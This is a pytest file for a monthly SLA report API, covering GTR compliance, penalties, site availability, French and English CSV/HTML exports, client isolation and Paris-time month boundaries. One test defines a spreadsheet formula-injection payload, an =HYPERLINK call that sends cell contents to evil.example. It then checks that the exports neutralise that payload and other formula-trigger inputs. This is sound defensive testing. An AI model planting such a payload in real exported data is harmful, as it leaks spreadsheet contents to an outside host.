"""The monthly QoS/SLA report: GTR compliance, breaches, penalties, availability; CSV and page."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from html import escape

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session, sessionmaker

from clocks import ManualClock
from collector.app import create_app
from collector.datadir import DEMO_INVENTORY_DIR
from collector.identity.access import Role
from collector.identity.tokens import create_user
from collector.inventory.files import load_inventory
from collector.listeners import alarm_engine
from collector.reports.service import spreadsheet_safe
from collector.tickets.flows import TicketAlarmListener
from protocol import AlarmEvent, Severity, Transition
from tests.collector.conftest import Desk, declaration

INVENTORY = DEMO_INVENTORY_DIR
NOTICE = {
    "link_ref": "L",
    "corrective_operation": "fixed",
    "occurred_at": "2026-01-05T09:00:00Z",
    "description": "d",
    "causes": "c",
}


@pytest.fixture
def app(
    sessions: sessionmaker[Session], clock: ManualClock
) -> Iterator[tuple[TestClient, dict[str, str], dict[str, str]]]:
    with sessions() as session:
        load_inventory(session, INVENTORY)
        _, noc = create_user(session, name="noc", role=Role.NOC, now=clock.now())
        _, alpha = create_user(
            session, name="alpha", role=Role.CLIENT, client_id="op-alpha", now=clock.now()
        )
        engine_ = alarm_engine([TicketAlarmListener()])

        def alarm(seq: int, alarm_type: str, transition: Transition) -> None:
            engine_.apply_event(
                session,
                event=AlarmEvent(
                    agent_id="a",
                    stream_id="0" * 32,
                    seq=seq,
                    ts=clock.now(),
                    clock_synced=True,
                    site_id="NRO-LYO-01",
                    equipment_id="eq",
                    point=alarm_type,
                    alarm_type=alarm_type,
                    transition=transition,
                    severity=Severity.MAJOR,
                ),
                agent_id="a",
                now=clock.now(),
            )

        alarm(1, "hvac_fault", Transition.RAISED)  # major: GTR 8 h
        alarm(2, "fire", Transition.RAISED)  # critical: GTR 4 h
        session.commit()
        clock.advance(hours=2)
        alarm(3, "hvac_fault", Transition.CLEARED)
        session.commit()
        clock.advance(hours=4)  # 6 h: fire breached by 2 h
        alarm(4, "fire", Transition.CLEARED)
        session.commit()
    client = TestClient(create_app(session_factory=sessions, clock=clock))
    noc_h, alpha_h = {"Authorization": f"Bearer {noc}"}, {"Authorization": f"Bearer {alpha}"}
    for ticket in client.get("/api/v1/tickets", headers=noc_h).json()["items"]:
        client.post(
            f"/api/v1/tickets/{ticket['ref']}/transition", json={"to": "qualified"}, headers=noc_h
        )
        client.post(
            f"/api/v1/tickets/{ticket['ref']}/transition", json={"to": "in_progress"}, headers=noc_h
        )
        client.post(f"/api/v1/tickets/{ticket['ref']}/restore", json=NOTICE, headers=noc_h)
    yield client, noc_h, alpha_h


def test_monthly_report_figures_csv_and_page(
    app: tuple[TestClient, dict[str, str], dict[str, str]],
) -> None:
    client, noc, alpha = app
    report = client.get(
        "/api/v1/reports/monthly?month=2026-01&client_id=op-alpha", headers=noc
    ).json()
    assert len(report["tickets"]) == 2
    assert report["breaches"] == 1 and report["gtr_compliance_pct"] == 50.0
    assert report["penalties_eur"] == 300.0  # fire: 2 started hours late x 150
    nro = next(s for s in report["sites"] if s["site_id"] == "NRO-LYO-01")
    assert nro["outage_min"] == 360.0  # 6 h with a major or critical alarm open
    summary = _csv(
        client.get(
            "/api/v1/reports/monthly?month=2026-01&client_id=op-alpha&format=csv&table=summary",
            headers=noc,
        ).content
    )
    assert summary[0] == ["Indicateur", "Valeur"]
    indicators = dict(summary[1:])
    assert indicators["Respect de la GTR (%)"] == "50,0"
    assert indicators["Dépassements de GTR"] == "1"
    assert indicators["Pénalités (EUR)"] == "300,0"
    page = client.get(
        "/api/v1/reports/monthly?month=2026-01&client_id=op-alpha&format=html", headers=noc
    ).text
    assert "Rapport QoS / SLA" in page and "<svg" in page and 'lang="fr"' in page
    mine = client.get("/api/v1/reports/monthly?month=2026-01", headers=alpha).json()
    assert mine["client_id"] == "op-alpha"  # a client's own, implied
    for other in ("op-beta", "op-nobody"):  # another client's does not exist for it
        refused = client.get(
            f"/api/v1/reports/monthly?month=2026-01&client_id={other}", headers=alpha
        )
        assert refused.status_code == 404, refused.text
        assert refused.json()["detail"] == f"client {other} introuvable / client {other} not found"


def _csv(body: bytes) -> list[list[str]]:
    """A CSV file as French Excel reads it: UTF-8 after a BOM, ``;`` between cells."""
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body[3:].decode("utf-8"), newline=""), delimiter=";"))


def test_the_csv_is_a_zip_of_one_french_excel_table_per_file(
    app: tuple[TestClient, dict[str, str], dict[str, str]],
) -> None:
    client, noc, _ = app
    answer = client.get(
        "/api/v1/reports/monthly?month=2026-01&client_id=op-alpha&format=csv", headers=noc
    )
    assert answer.headers["content-type"] == "application/zip"
    assert 'filename="rapport-sla-op-alpha-2026-01.zip"' in answer.headers["content-disposition"]
    archive = zipfile.ZipFile(io.BytesIO(answer.content))
    prefix = "op-alpha-2026-01-"
    assert archive.namelist() == [
        prefix + "tickets.csv",
        prefix + "synthese.csv",
        prefix + "disponibilite-sites.csv",
    ]
    tickets = _csv(archive.read(prefix + "tickets.csv"))
    assert tickets[0][:3] == ["Référence", "Référence client", "Site"]
    restored = {row[7] for row in tickets[1:]}  # Paris time
    assert sorted(row[10] for row in tickets[1:]) == ["non", "oui"]  # within GTR
    # Opened 5 January 09:00 UTC, 10:00 in Paris; fire restored 6 h later.
    assert {row[6] for row in tickets[1:]} == {"05/01/2026 10:00"}
    assert "05/01/2026 16:00" in restored
    assert {row[4] for row in tickets[1:]} == {"critique", "majeure"}
    sites = _csv(archive.read(prefix + "disponibilite-sites.csv"))
    assert sites[0] == ["Site", "Indisponibilité (min)", "Disponibilité (%)"]
    nro = next(row for row in sites if row[0] == "NRO-LYO-01")
    assert nro[1] == "360,0" and "," in nro[2]
    summary = dict(_csv(archive.read(prefix + "synthese.csv"))[1:])
    assert summary["Début de période (heure de Paris)"] == "01/01/2026 00:00"
    assert summary["Fin de période, exclue (heure de Paris)"] == "01/02/2026 00:00"
    one = client.get(
        "/api/v1/reports/monthly?month=2026-01&client_id=op-alpha&format=csv&table=sites",
        headers=noc,
    )
    assert one.headers["content-type"] == "text/csv; charset=utf-8"
    assert (
        'filename="op-alpha-2026-01-disponibilite-sites.csv"' in one.headers["content-disposition"]
    )
    assert one.content == archive.read(prefix + "disponibilite-sites.csv")


def test_english_on_request(app: tuple[TestClient, dict[str, str], dict[str, str]]) -> None:
    client, noc, _ = app
    english = {**noc, "Accept-Language": "en-GB,en;q=0.9,fr;q=0.5"}
    url = "/api/v1/reports/monthly?month=2026-01&client_id=op-alpha&format="
    rows = _csv(client.get(url + "csv&table=summary", headers=english).content)
    assert dict(rows[1:])["GTR compliance (%)"] == "50.0"
    page = client.get(url + "html", headers=english).text
    assert 'lang="en"' in page and "Period: 01/01/2026 to 31/01/2026" in page


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'


def test_a_client_reference_never_runs_as_a_formula_in_the_csv_or_the_page(
    app: tuple[TestClient, dict[str, str], dict[str, str]],
) -> None:
    client, noc, alpha = app
    declared = client.post("/api/v1/tickets", json=declaration(client_ref=FORMULA), headers=alpha)
    assert declared.status_code == 201, declared.text
    url = "/api/v1/reports/monthly?month=2026-01&client_id=op-alpha&format="
    rows = _csv(client.get(url + "csv&table=tickets", headers=noc).content)
    assert [r[1] for r in rows if r[0] == declared.json()["ref"]] == ["'" + FORMULA]
    assert escape("'" + FORMULA) in client.get(url + "html", headers=noc).text


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("HEB00001", "HEB00001"),
        ("-12.5", "-12.5"),  # a number written as text stays a number
        ("+1e3", "+1e3"),
        (-12.5, -12.5),
        (0, 0),
        (None, None),
    ],
)
def test_spreadsheet_safe_quotes_formulas_and_keeps_numbers(cell: object, safe: object) -> None:
    assert spreadsheet_safe(cell) == safe


MONTHLY = "/api/v1/reports/monthly"


# Each case is a unit test in test_periods.py; here, that the route answers them as a 422.
REFUSED_MONTHS = ("0000-01", "0001-01", "9999-12", "2026-00", "2026-13", "2026-1", "janvier")


def test_a_month_out_of_range_or_malformed_is_a_422_naming_it(desk: Desk) -> None:
    for month in REFUSED_MONTHS:
        answer = desk.client.get(MONTHLY, params={"month": month, "client_id": "op-alpha"})
        assert answer.status_code == 422, (month, answer.text)
        assert "month" in answer.json()["detail"]


def test_the_first_and_last_computable_months_answer(desk: Desk) -> None:
    for month in ("0001-02", "9999-11"):
        for format in ("json", "csv", "html"):
            params = {"month": month, "client_id": "op-alpha", "format": format}
            answer = desk.client.get(MONTHLY, params=params)
            assert answer.status_code == 200, (month, format, answer.text)


def test_month_defaults_to_the_last_complete_month_and_a_client_is_implied(desk: Desk) -> None:
    # The desk's clock: Monday 5 January 2026, 09:00 UTC.
    mine = desk.client.get(MONTHLY, headers=desk.alpha)
    assert mine.status_code == 200, mine.text
    assert (mine.json()["client_id"], mine.json()["month"]) == ("op-alpha", "2025-12")
    noc = desk.client.get(MONTHLY)
    assert noc.status_code == 422
    assert noc.json()["detail"].startswith("client_id :")


@pytest.mark.parametrize(
    ("month", "name", "first", "last", "hours"),
    [
        ("2026-03", "mars 2026", "01/03/2026", "31/03/2026", 743),  # summer time on the 29th
        ("2026-10", "octobre 2026", "01/10/2026", "31/10/2026", 745),  # winter time on the 25th
    ],
)
def test_a_month_is_cut_at_paris_midnight_across_dst(
    desk: Desk, month: str, name: str, first: str, last: str, hours: int
) -> None:
    report = desk.client.get(MONTHLY, params={"month": month, "client_id": "op-alpha"}).json()
    since, until = (datetime.fromisoformat(report[k]) for k in ("since", "until"))
    assert until - since == timedelta(hours=hours)
    page = desk.client.get(
        MONTHLY, params={"month": month, "client_id": "op-alpha", "format": "html"}
    ).text
    assert f"du {first} au {last} inclus, heure de Paris ({hours} h)" in page
    assert f"— {name}</h1>" in page


def test_a_ticket_opened_after_paris_midnight_belongs_to_the_new_month(desk: Desk) -> None:
    desk.clock.set(datetime(2026, 2, 28, 23, 30, tzinfo=UTC))  # 00:30 on 1 March in Paris
    desk.alarm(Transition.RAISED, site="PM-LYO-0101")
    desk.clock.set(datetime(2026, 4, 2, 8, tzinfo=UTC))

    def tickets(month: str) -> int:
        params = {"month": month, "client_id": "op-alpha"}
        return len(desk.client.get(MONTHLY, params=params).json()["tickets"])

    assert (tickets("2026-02"), tickets("2026-03")) == (0, 1)
    rows = _csv(
        desk.client.get(
            MONTHLY,
            params={
                "month": "2026-03",
                "client_id": "op-alpha",
                "format": "csv",
                "table": "tickets",
            },
        ).content
    )
    assert rows[1][6] == "01/03/2026 00:30"


def test_table_only_goes_with_csv(desk: Desk) -> None:
    answer = desk.client.get(MONTHLY, params={"client_id": "op-alpha", "table": "sites"})
    assert answer.status_code == 422
    assert answer.json()["detail"].startswith("table :")


def test_the_openapi_document_shows_the_report_content_types() -> None:
    app = create_app(session_factory=None, clock=ManualClock())  # type: ignore[arg-type]
    paths = app.openapi()["paths"]
    content = paths[MONTHLY]["get"]["responses"]["200"]["content"]
    assert sorted(content) == ["application/json", "application/zip", "text/csv", "text/html"]
    since = next(
        p for p in paths["/api/v1/reports/tickets-summary"]["get"]["parameters"]
        if p["name"] == "since"
    )  # fmt: skip
    assert {"type": "string", "format": "date"} in since["schema"]["anyOf"]
